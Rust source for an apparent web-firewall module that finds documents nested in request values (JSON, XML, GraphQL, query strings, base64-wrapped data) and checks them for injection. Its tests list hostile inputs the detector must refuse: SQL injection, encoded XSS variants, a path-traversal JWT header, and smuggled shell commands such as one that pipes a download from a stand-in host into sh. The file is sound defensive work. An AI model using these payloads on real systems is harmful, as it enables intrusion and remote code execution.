//! Documents within a value: JSON, XML, a query string. Their fields are looked at as fields.
//!
//! **In:** a value as the application sees it. **Out:** calls of [`Inspection::value`] for what is in it, under the name of the
//! value, so that an exception for the field holds for all of it.
//! **Invariant:** at most [`MAX_NESTED`] deep; what is deeper is told ([`Inspection::unread`]). What a value is called or begins with decides nothing by itself: the value as a
//! whole was looked at before.
//! **Cost:** the value's length for each level, paid from the step budget.

use super::bytes::{self, AMP, ANGLE, BLANK, BRACE, LINE, OPERATOR, PAREN, QUOTE, is_word, rest};
use super::fields;
use super::inspection::{Encoding, Inspection, Place};
use super::{graphql, xml};
use crate::budget::MAX_JSON_DEPTH;
use crate::inflate::Coding;
use crate::json::Reader;

/// Documents in documents in a value.
pub(super) const MAX_NESTED: u8 = 3;

/// Bytes that are copied in the time in which one is looked at, as a power of two.
const COPY: u32 = 4;

/// What a value may be.
enum Kind<'a> {
    Json,
    Xml,
    Graphql,
    /// `a=1&b=2`, or what stands behind the `?` of a URL.
    Query(&'a [u8]),
}

fn kind(place: Place, text: &[u8], seen: u32) -> Option<Kind<'_>> {
    if seen & PAREN != 0 && seen & QUOTE != 0 && is_json(text) {
        return Some(Kind::Json);
    }
    if seen & ANGLE != 0 && xml::is_document(text) {
        return Some(Kind::Xml);
    }
    if seen & BRACE != 0 && graphql::is_document(text) {
        return Some(Kind::Graphql);
    }
    if seen & OPERATOR != 0 && place != Place::Path {
        return query(text, seen).map(Kind::Query);
    }
    None
}

/// Looks into `text`, of the byte classes `seen`; not at its pairs where it `is_form`, which is looked at as one.
pub(super) fn look(
    place: Place,
    name: &[u8],
    text: &[u8],
    seen: u32,
    is_form: bool,
    inspection: &mut Inspection<'_>,
) {
    inspection.pay(text.len());
    match kind(place, text, seen) {
        // What is in a document stands under a copy of the name.
        Some(Kind::Json) => {
            inspection.pay(name.len() >> COPY);
            fields::json(text, place, name, inspection);
        }
        Some(Kind::Xml) => {
            inspection.pay(name.len() >> COPY);
            let walk = xml::walk(text, place, name, inspection);
            if !walk.shallow {
                inspection.unread(place, name);
            }
        }
        Some(Kind::Graphql) => graphql::strings(place, name, text, inspection),
        Some(Kind::Query(_)) if is_form => {}
        Some(Kind::Query(pairs)) => values(place, name, pairs, inspection),
        None => {}
    }
}

/// Whether `text` holds a document, which nobody is going to look into. Brackets around no JSON are none.
pub(super) fn holds(place: Place, text: &[u8], seen: u32) -> bool {
    match kind(place, text, seen) {
        Some(Kind::Json) => {
            let mut reader = Reader::new(text, MAX_JSON_DEPTH);
            let mut next = || matches!(reader.next_event(), Ok(Some(_)));
            next() && next()
        }
        found => found.is_some(),
    }
}

/// Bytes that gzip in base64 in a value is read to.
pub(super) const MAX_UNPACKED: usize = 64 * 1024;

/// How base64 that begins so is compressed.
pub(super) fn compressed(raw: &[u8]) -> Option<Coding> {
    const ZLIB: [&[u8]; 4] = [b"eJ", b"eN", b"eF", b"eA"];
    if raw.starts_with(b"H4sI") {
        return Some(Coding::Gzip);
    }
    let zlib = ZLIB.iter().any(|start| raw.starts_with(start));
    zlib.then_some(Coding::Deflate)
}

/// Whether `text` has the ends of a JSON object or array.
pub(super) fn is_json(text: &[u8]) -> bool {
    matches!(text.trim_ascii(), [b'{', .., b'}'] | [b'[', .., b']'])
}

/// Whether a document with `scripts` is the manifest of a package (npm, Composer), as registries and their webhooks send it.
pub(super) fn is_manifest(text: &[u8]) -> bool {
    [&b"\"name\""[..], b"\"version\""]
        .iter()
        .all(|key| fields::find(text, key).is_some())
}

/// The pairs of `a=1&b=2`, or of a URL with a query.
fn query(text: &[u8], seen: u32) -> Option<&[u8]> {
    let question = text.iter().position(|&byte| byte == b'?');
    let (address, pairs) = match question.and_then(|at| text.split_at_checked(at)) {
        Some((address, pairs)) => (address, rest(pairs, 1)),
        None if seen & AMP != 0 => (&b""[..], text),
        None => return None,
    };
    let address = bytes::classes(address) & (BLANK | LINE | QUOTE | ANGLE) == 0;
    (address && is_pair(pairs)).then_some(pairs)
}

/// Looks at the values of a query.
fn values(place: Place, name: &[u8], pairs: &[u8], inspection: &mut Inspection<'_>) {
    for pair in pairs.split(|&byte| byte == b'&') {
        if is_pair(pair) {
            let equals = pair.iter().position(|&byte| byte == b'=');
            let value = rest(pair, equals.unwrap_or(pair.len()).saturating_add(1));
            if is_phrase(value) {
                continue;
            }
            inspection.value(place, name, value, Encoding::Form);
        }
    }
}

/// Whether `text` begins with a name and `=`.
pub(super) fn is_pair(text: &[u8]) -> bool {
    let start = text.get(..MAX_NAME).unwrap_or(text);
    let end = start.iter().position(|byte| {
        !byte.is_ascii_alphanumeric() && !matches!(byte, b'_' | b'-' | b'.' | b'[' | b']' | b'%')
    });
    end.is_some_and(|end| end > 0 && start.get(end) == Some(&b'='))
}

/// `"two words"`: a search for a phrase.
fn is_phrase(value: &[u8]) -> bool {
    value
        .strip_prefix(b"\"")
        .and_then(|value| value.strip_suffix(b"\""))
        .is_some_and(|words| words.iter().all(|&byte| is_word(byte) || byte == b'+'))
}

/// Bytes of a name that is taken for one.
const MAX_NAME: usize = 64;

#[cfg(test)]
mod tests {
    use super::super::{Here, InjectionStage};
    use crate::budget::MAX_STEPS;
    use crate::finding::Findings;
    use crate::request::RequestHead;
    use crate::request::body::BodyKind;
    use crate::units::UnixTime;
    use crate::verdict::Reason;

    const HERE: Here<'_> = Here::new(b"", UnixTime(0));

    fn is_refused(kind: BodyKind, body: &[u8]) -> bool {
        let (mut steps, mut found) = (MAX_STEPS, Findings::default());
        let stage = InjectionStage::new(1, 5);
        stage
            .inspect_body(kind, body, HERE, &mut steps, &mut found)
            .is_err()
    }

    fn is_refused_in(value: &str) -> bool {
        let coded: String = value.bytes().map(|byte| format!("%{byte:02x}")).collect();
        is_refused(BodyKind::Form, format!("q={coded}").as_bytes())
    }

    fn is_refused_at(pairs: &[(&str, &str)]) -> bool {
        let pairs = pairs
            .iter()
            .map(|(name, value)| (name.as_bytes(), value.as_bytes()));
        let (mut steps, mut found) = (MAX_STEPS, Findings::default());
        let stage = InjectionStage::new(1, 5);
        stage
            .inspect_head(&RequestHead::decode(pairs), HERE, &mut steps, &mut found)
            .is_err()
    }

    #[test]
    fn wrapped_values_are_unwrapped() {
        for value in [
            // gzip, zlib, UTF-16, each in base64; a token's header and its claims.
            "H4sIAAAAAAACA1NX8A9SMLQ11NVVSMxLUSjOz01VyM0vSlUoSa0oUSjJV0hKVShITM5OTdEBKwDJAQCneZkFNAAAAA==",
            "eJxTV/APUjC0NdTVVUjMS1Eozs9NVcjNL0pVKEmtKFEoyVdISlUoSEzOTk3RASsAyQEAmEgQpQ==",
            "JwAgAE8AUgAgADEAPQAxAC0ALQAgAA==",
            "eyJhbGciOiJIUzI1NiIsImtpZCI6Ii4uLy4uLy4uLy4uL2V0Yy9wYXNzd2QifQ.eyJzdWIiOiIxIn0.c2ln",
            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJcdTAwMjcgT1IgMT0xLS0gIn0.c2ln",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "\\074script\\076alert(1)",
            "\\3c script\\00003ealert(1)",
            "\\u{3c}script\\u{00003e}alert(1)",
            "&lt;script&rpar;&gt;alert&lpar;1&rpar;",
            "&#xFF1C;script&#xFF1E;alert(1)",
            "query { find(q: \"\\\" onload=alert(1) x=\\\"\") { id } }",
            "{ user(id: \"' OR 1=1-- \") { name } }",
            "mutation M($a: Int) { add(text: \"\"\"<script>alert(1)</script>\"\"\", n: $a) }",
            "/search?q=%27%20OR%201=1--%20&page=2",
        ] {
            assert!(is_refused_in(value), "{value}");
        }
        for value in [
            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxIiwibmFtZSI6IlpvZSBPJ0JyaWVuIiwiaXNzIjoiaHR0cHM6Ly9pZC5leGFtcGxlLmNvbSJ9.c2ln",
            "2+ADults and 1+Asmall child",
            "C:\\2024\\101\\file.txt",
            "1 &lt 2",
            "/search?q=\"two words\"&page=2",
            "query Find($q: String!) { find(q: $q, note: \"it's 5 o'clock\") { id } } # it's a comment",
            "H4sIAAAAAAAAA",
            "eJwthis is not compressed",
        ] {
            assert!(!is_refused_in(value), "{value}");
        }
    }

    #[test]
    fn utf16_is_read() {
        for text in [
            "{\"a\":\"' OR 1=1-- \"}",
            "<?xml version='1.0'?><a>' OR 1=1-- </a>",
        ] {
            let little: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
            let big: Vec<u8> = text.encode_utf16().flat_map(u16::to_be_bytes).collect();
            for bytes in [[&b"\xFF\xFE"[..], &little].concat(), little, big] {
                for kind in [BodyKind::Xml, BodyKind::Other, BodyKind::Form] {
                    assert!(is_refused(kind, &bytes), "{kind:?} {text}");
                }
            }
        }
    }

    #[test]
    fn a_path_is_looked_at_by_segment_and_parameter() {
        for path in [
            "/a%20b/c;v='%20OR%201=1--%20/d",
            "/list;v=1/x;id=%3Cscript%3Ealert(1)/y",
            "/a%20b/'%20OR%201=1--%20",
        ] {
            assert!(is_refused_at(&[(":path", path)]), "{path}");
        }
        for path in [
            "/map;lat=50.1;long=20/x%20y/z",
            "/a%20b/O'Brien/c;v=1.0",
            "/",
        ] {
            assert!(!is_refused_at(&[(":path", path)]), "{path}");
        }
    }

    #[test]
    fn odd_character_sets_are_findings() {
        for (charset, odd) in [
            ("utf-8", false),
            ("\"UTF-8\"", false),
            ("iso-8859-1", false),
            ("utf-16", false),
            ("ibm866", false),
            ("IBM037", true),
            ("utf-7", true),
            (" \"cp500\"", true),
        ] {
            let value = format!("application/x-www-form-urlencoded; charset={charset}");
            assert_eq!(is_refused_at(&[("content-type", &value)]), odd, "{charset}");
        }
    }

    /// The lines of a package's scripts are a shell's; what stands beside them is not, and neither is what they hold of other kinds.
    #[test]
    fn a_manifest_covers_its_scripts_alone() {
        let manifest = |scripts: &str, other: &str| {
            format!(
                r#"{{"name":"shop","version":"1.0.0","scripts":{{{scripts}}},"description":"{other}"}}"#
            )
        };
        for body in [
            manifest(r#""build":"rm -rf dist && tsc -p .""#, "a shop"),
            manifest(r#""test":"NODE_ENV=test jest; eslint src""#, "it's ours"),
        ] {
            assert!(!is_refused_in(&body), "{body}");
        }
        for body in [
            manifest(r#""build":"tsc""#, "x;cat /etc/hostname"),
            manifest(r#""build":"tsc""#, "$(curl a.test|sh)"),
            manifest(r#""build":"<script>alert(1)</script>""#, "a shop"),
        ] {
            assert!(is_refused_in(&body), "{body}");
        }
    }

    /// What base64 wraps may be encoded again.
    #[test]
    fn what_is_unwrapped_is_decoded() {
        // `_$$\u004e\u0044_FUNC$$_function(){}` and `%3Cscript%3Ealert(1)`.
        for value in [
            "XyQkXHUwMDRlXHUwMDQ0X0ZVTkMkJF9mdW5jdGlvbigpe30=",
            "JTNDc2NyaXB0JTNFYWxlcnQoMSk=",
        ] {
            assert!(is_refused_in(value), "{value}");
        }
    }

    /// Documents in documents beyond the bound: nobody looks into them, and a finding that is no refusal says so.
    #[test]
    fn what_is_not_looked_into_is_told() {
        type Make<'a> = &'a dyn Fn(usize) -> String;
        let told = |kind, body: &str| {
            let (mut steps, mut found) = (MAX_STEPS, Findings::default());
            let stage = InjectionStage::new(1, 5);
            let judged = stage.inspect_body(kind, body.as_bytes(), HERE, &mut steps, &mut found);
            assert!(judged.is_ok(), "{body}");
            let told = found.as_slice().first().map(|finding| {
                assert_eq!(finding.reason, Reason::InspectionBudget);
                assert_eq!(finding.rule, b"nested");
                String::from_utf8_lossy(&finding.place).into_owned()
            });
            assert_eq!(found.as_slice().len(), usize::from(told.is_some()));
            told
        };
        let coded = |text: &str| -> String {
            let bytes = text.bytes();
            bytes.map(|byte| format!("%{byte:02x}")).collect()
        };
        let json = |depth: usize| {
            (0..depth).fold("it's".to_owned(), |text, _| {
                let text = text.replace('\\', "\\\\").replace('"', "\\\"");
                format!("{{\"a\":\"{text}\"}}")
            })
        };
        let url = |depth: usize| {
            (0..depth).fold("x".to_owned(), |text, _| {
                format!("https://a.example/?b=1&u={}", coded(&text))
            })
        };
        let xml = |depth: usize| "<a:b>".repeat(depth) + &"</a:b>".repeat(depth);
        let array = |depth: usize| format!("{}\"a\"{}", "[".repeat(depth), "]".repeat(depth));
        let kinds: [(&str, Make<'_>, usize); 4] = [
            ("JSON", &json, 3),
            ("URL", &url, 3),
            ("XML", &xml, 256),
            ("array", &array, 64),
        ];
        for (name, document, most) in kinds {
            for (depth, place) in [(most, None), (most + 1, Some("body:f"))] {
                let form = format!("f={}", coded(&document(depth)));
                let told = told(BodyKind::Form, &form);
                let at = told.as_deref().and_then(|told| told.get(..6));
                assert_eq!(at, place, "{name} {depth} {told:?}");
            }
        }
        // A body of JSON is a document, its strings hold three more.
        assert_eq!(told(BodyKind::Json, &json(4)), None);
        assert_eq!(
            told(BodyKind::Json, &json(5)).as_deref(),
            Some("body:a.a.a.a")
        );
        // Base64 of base64 of base64 of `it's a value, or 1`.
        for (value, place) in [
            ("YVhRbmN5QmhJSFpoYkhWbExDQnZjaUF4", None),
            (
                "WVZoUmJtTjVRbWhKU0Zwb1lraFdiRXhEUW5aamFVRjQ=",
                Some("body:f"),
            ),
        ] {
            let form = format!("f={}", coded(value));
            assert_eq!(told(BodyKind::Form, &form).as_deref(), place, "{value}");
        }
    }

    /// Twice the name, once with a value that is suspicious by itself: two readers may take different ones.
    #[test]
    fn repeated_names_count_beside_suspicion() {
        let suspicious = "<!DOCTYPE note SYSTEM \"note.dtd\">";
        let form: String = suspicious
            .bytes()
            .map(|byte| format!("%{byte:02x}"))
            .collect();
        let json = suspicious.replace('"', "\\\"");
        let cases: &[(BodyKind, String, bool)] = &[
            (BodyKind::Form, format!("a={form}"), false),
            (BodyKind::Form, format!("a={form}&a=b"), true),
            (BodyKind::Form, format!("a=b&a={form}"), true),
            (BodyKind::Form, format!("a={form}&a={form}"), false),
            (BodyKind::Form, format!("a={form}&b=c"), false),
            (BodyKind::Form, format!("a[]={form}&a[]=c"), false),
            (
                BodyKind::Form,
                "tag=a&tag=b&filter[]=c&filter[]=d".into(),
                false,
            ),
            (BodyKind::Json, format!("{{\"a\":\"{json}\"}}"), false),
            (
                BodyKind::Json,
                format!("{{\"a\":\"{json}\",\"a\":1}}"),
                true,
            ),
            (
                BodyKind::Json,
                format!("{{\"a\":{{\"b\":1,\"b\":\"{json}\"}}}}"),
                true,
            ),
            (
                BodyKind::Json,
                format!("[{{\"a\":\"{json}\"}},{{\"a\":1}}]"),
                false,
            ),
            (
                BodyKind::Json,
                format!("{{\"a\":\"{json}\",\"b\":{{\"a\":1}}}}"),
                false,
            ),
        ];
        for (kind, body, refused) in cases {
            assert_eq!(is_refused(*kind, body.as_bytes()), *refused, "{body}");
        }
    }

    /// What it costs grows as the input does, whatever the input.
    #[test]
    fn cost_is_linear() {
        let spent = |kind, body: &[u8]| {
            let (mut steps, mut found) = (u64::MAX, Findings::default());
            let _ = InjectionStage::new(1, u32::MAX)
                .inspect_body(kind, body, HERE, &mut steps, &mut found);
            u64::MAX - steps
        };
        let patterns = [
            "<!ENTITY a \"",
            "<a b='",
            "<x:include href=",
            "{\"a\":",
            "[\"{}\",",
            "a=1&",
            "a=%2525&",
            "+ADw-",
            "\\3c ",
            "&#x3c;",
            "H4sI&",
            "eyJhIjoi.",
            "<![CDATA[",
            "]]",
            "' OR ",
            "query{a(b:\"",
            "\"\"\"",
            "a;b=",
            "--B\r\n",
            "?a=b",
        ];
        for pattern in patterns {
            for kind in [
                BodyKind::Form,
                BodyKind::Json,
                BodyKind::Xml,
                BodyKind::Other,
            ] {
                let cost =
                    |size: usize| spent(kind, pattern.repeat(size / pattern.len()).as_bytes());
                let (small, large) = (cost(4 * 1024), cost(16 * 1024));
                assert!(
                    large <= small * 5 + 10_000,
                    "{pattern} {kind:?}: {small} {large}"
                );
            }
        }
    }
}
